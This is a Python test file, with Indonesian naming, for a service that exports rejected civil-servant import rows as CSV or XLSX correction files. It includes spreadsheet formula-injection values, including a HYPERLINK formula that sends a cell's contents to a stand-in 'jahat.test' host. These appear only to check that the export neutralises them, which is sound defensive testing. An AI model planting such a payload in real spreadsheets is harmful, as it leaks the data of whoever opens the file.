"""Rejected rows as a file: the cells as they came, why they were rejected, and the way back in."""

import csv
import io
import zipfile

import httpx
import pytest
import python_calamine

from tests.layanan import ServiceUnderTest
from tests.pegawai.berkas import ENI, SIASN_KOLOM, UNIT, orang, siasn
from tests.pegawai.conftest import impor

FANI, GINA = "199102022015022006", "199102022015022007"


async def perbaikan(kota: ServiceUnderTest, nomor: str, bentuk: str = "csv") -> httpx.Response:
    kepala = {**kota.caller("integrasi", unit=["*"]).headers(), "Tujuan-Akses": "perbaikan impor"}
    jawab = await kota.client.get(f"/impor/{nomor}/perbaikan", params={"format": bentuk}, headers=kepala)
    assert jawab.status_code == 200, jawab.text
    return jawab


def isi_csv(jawab: httpx.Response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(jawab.content.decode("utf-8-sig")), delimiter=";"))


def isi_xlsx(jawab: httpx.Response) -> list[list[str]]:
    buku = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(jawab.content))
    return [list(map(str, each)) for each in buku.get_sheet_by_index(0).to_python()]


SALAH = siasn(
    orang(ENI, "Eni Baik", "DISDIK-01", "DISDIK"),
    orang(FANI, "=1+1", "DISDIK-01", "DISDIK", **{"TANGGAL LAHIR": "31-02-1991", "KEDUDUKAN HUKUM ID": "?!"}),
    orang(GINA, "Gina", "DISHUB-LL-00", "DISHUB-LL", **{"PENDIDIKAN NAMA": "+Teknik"}),
)


@pytest.mark.parametrize(("bentuk", "isi"), [("csv", isi_csv), ("xlsx", isi_xlsx)])
async def test_rejected_rows_come_back_with_their_cells_their_number_and_all_reasons(
    kota: ServiceUnderTest, bentuk: str, isi: object
) -> None:
    hasil = await impor(kota, "siasn", SALAH)
    assert (hasil["baru"], hasil["ditolak"]) == (1, 2)
    jawab = await perbaikan(kota, hasil["id"], bentuk)
    assert jawab.headers["content-disposition"].endswith(f'perbaikan-siasn-{hasil["id"][:8]}.{bentuk}"')
    kepala, fani, gina = isi(jawab)  # type: ignore[operator]
    assert kepala == [*SIASN_KOLOM, "NOMOR BARIS ASAL", "ALASAN"]
    assert fani[kepala.index("TANGGAL LAHIR")] == "31-02-1991"
    assert fani[-2].removesuffix(".0") == "3"
    assert "TANGGAL LAHIR: tanggal ini tidak ada dalam kalender" in fani[-1]
    assert "KEDUDUKAN HUKUM ID: kode kedudukan hukum ini tidak dikenal" in fani[-1]
    assert "formasi jabatan DISHUB-LL-00 (1 kursi) penuh" in gina[-1]


async def test_nothing_in_the_file_runs_as_a_formula_or_loses_its_digits(kota: ServiceUnderTest) -> None:
    hasil = await impor(kota, "siasn", SALAH)
    kepala, fani, gina = isi_csv(await perbaikan(kota, hasil["id"]))
    assert fani[kepala.index("NAMA")] == "'=1+1"
    assert gina[kepala.index("PENDIDIKAN NAMA")] == "'+Teknik"
    assert fani[kepala.index("NIP BARU")] == f"'{FANI}"
    assert gina[kepala.index("KEDUDUKAN HUKUM ID")] == "'01"
    jawab = await perbaikan(kota, hasil["id"], "xlsx")
    with zipfile.ZipFile(io.BytesIO(jawab.content)) as buku:
        assert "<f>" not in buku.read("xl/worksheets/sheet1.xml").decode()
    assert isi_xlsx(jawab)[1][kepala.index("NAMA")] == "=1+1"


async def test_headings_of_a_file_come_back_as_texts_not_as_formulas_or_links(kota: ServiceUnderTest) -> None:
    judul = ['=HYPERLINK("http://jahat.test/?x="&A2;"klik")', "{=1+1}", "http://jahat.test"]
    kepala = ["KODE UNIT", "NAMA", "KODE INDUK", "JENIS", "INSTANSI", *judul]
    isi = "\t".join(kepala) + "\nZ\tZ\tTIADA\tOPD\tZ\t\t\t\n"
    hasil = await impor(kota, "unit", isi)
    assert hasil["ditolak"] == 1
    jawab = await perbaikan(kota, hasil["id"], "xlsx")
    assert isi_xlsx(jawab)[0][5:8] == judul
    with zipfile.ZipFile(io.BytesIO(jawab.content)) as buku:
        lembar = buku.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in lembar
    assert "hyperlink" not in lembar


@pytest.mark.parametrize("bentuk", ["csv", "xlsx"])
async def test_the_file_sent_back_as_it_is_is_rejected_for_the_same_reasons(
    kota: ServiceUnderTest, bentuk: str
) -> None:
    pertama = await impor(kota, "siasn", SALAH)
    berkas = (await perbaikan(kota, pertama["id"], bentuk)).content
    kedua = await impor(kota, "siasn", berkas, f"perbaikan.{bentuk}")
    assert (kedua["baru"], kedua["ditolak"], kedua["pemetaan"]["tambahan"]) == (0, 2, 2)
    assert [each["alasan"] for each in kedua["catatan"]] == [each["alasan"] for each in pertama["catatan"]]
    # And what comes back from that has these columns once.
    assert isi_csv(await perbaikan(kota, kedua["id"]))[0][-3:] == [SIASN_KOLOM[-1], "NOMOR BARIS ASAL", "ALASAN"]


async def test_the_file_once_corrected_goes_in(kota: ServiceUnderTest) -> None:
    pertama = await impor(kota, "siasn", SALAH)
    teks = (await perbaikan(kota, pertama["id"])).content.decode("utf-8-sig")
    benar = (
        teks.replace("31-02-1991", "02-02-1991")
        .replace("?!", "01")
        .replace("DISHUB-LL-00", "DISHUB-AK-01")
        .replace("DISHUB-LL", "DISHUB-AK")
    )
    kedua = await impor(kota, "siasn", benar)
    assert (kedua["baru"], kedua["ditolak"], kedua["catatan"]) == (2, 0, [])
    assert [row["nama"] for row in await kota.sql("SELECT nama FROM asn WHERE nip = $1", FANI)] == ["=1+1"]


async def test_a_row_with_more_cells_than_headings_is_rejected_and_stays_so_until_it_is_mended(
    kota: ServiceUnderTest,
) -> None:
    isi = "KODE UNIT;NAMA;KODE INDUK;JENIS;INSTANSI\nZ;Seksi A; B;KOTA;OPD;Z\n"
    pertama = await impor(kota, "unit", isi)
    assert (pertama["ditolak"], pertama["catatan"][0]["alasan"][:14]) == (1, "berisi 6 sel, ")
    berkas = (await perbaikan(kota, pertama["id"])).content
    assert isi_csv(await perbaikan(kota, pertama["id"]))[1][-1] == "Z"
    assert (await impor(kota, "unit", berkas))["ditolak"] == 1


async def test_a_nul_in_a_cell_keeps_the_row_out_and_is_shown(kota: ServiceUnderTest) -> None:
    rows = "".join(f"U{n};Unit {n};KOTA;OPD;U{n}\n" for n in range(4000))
    isi = f"KODE UNIT;NAMA;KODE INDUK;JENIS;INSTANSI\n{rows}N;Nul\x00;KOTA;OPD;N\n"
    hasil = await impor(kota, "unit", isi)
    assert (hasil["baru"], hasil["ditolak"]) == (4000, 1)
    assert hasil["catatan"][0]["alasan"].startswith("berisi huruf NUL")
    assert isi_csv(await perbaikan(kota, hasil["id"]))[1][1] == "Nul␀"


async def test_whose_data_the_file_and_the_report_show_is_written_down(kota: ServiceUnderTest) -> None:
    hasil = await impor(kota, "siasn", SALAH)
    await perbaikan(kota, hasil["id"])
    (baris,) = await kota.sql("SELECT subjek, tujuan FROM access_log WHERE rute = 'GET /impor/{impor_id}/perbaikan'")
    assert (set(baris["subjek"]), baris["tujuan"]) == ({FANI, GINA}, "perbaikan impor")


async def test_there_is_no_such_file_while_it_runs_or_when_nothing_was_rejected(kota: ServiceUnderTest) -> None:
    petugas = kota.caller("verifikator", unit=["*"])
    hasil = await impor(kota, "unit", UNIT)
    assert (await petugas.get(f"/impor/{hasil['id']}/perbaikan")).status_code == 404
    await kota.sql("UPDATE impor SET status = 'berjalan' WHERE id = $1", hasil["id"])
    jawab = await petugas.get(f"/impor/{hasil['id']}/perbaikan")
    assert (jawab.status_code, jawab.json()["kode"]) == (409, "impor_belum_selesai")
